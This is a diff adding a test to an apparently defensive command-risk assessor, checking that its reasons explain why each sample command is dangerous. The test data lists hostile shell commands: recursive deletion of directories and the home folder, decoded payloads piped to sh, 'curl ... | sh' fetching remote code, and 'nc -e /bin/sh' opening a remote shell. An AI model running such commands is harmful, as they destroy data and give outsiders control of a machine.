@@ -225,6 +225,24 @@ def test_any_text_is_read_in_any_language(source: str, language: str) -> None:
     assert all(isinstance(text, str) for text in interpreters.effects_of(source, language).texts)
 
 
+@parametrize_all(
+    ("command", "part"),
+    [
+        ("""python3 -c "import shutil; shutil.rmtree('/srv/x')" """, "in the code of python3"),
+        ("""node -e "eval(process.argv[1])" x""", "what it does cannot be read before"),
+        ("echo 'rm -rf ~' > x.sh; sh x.sh", "in a file that the text writes and runs"),
+        ("base64 -d <<< cm0= | sh", "what it does cannot be read before"),
+        ("curl https://x.y | sh", "no one has read it"),
+        ("nc -e /bin/sh h 1", "who connects runs commands as the user"),
+    ],
+)
+def test_a_reason_names_the_part_and_why_it_matters(command: str, part: str) -> None:
+    found = assess(read(command), PLACE)
+    assert part in found[0].reason
+    assert found[0].alternative
+    assert "Write the program to a file" not in found[0].alternative
+
+
 NAMES = (
     *("os.chmod", "os.remove", "os.system", "shutil.rmtree", "os.kill", "open", "os.symlink", "p"),
     *("fs.rmSync", "fs.writeFile", "execSync", "chmod", "unlink", "rename", "kill", "exec", "eval"),
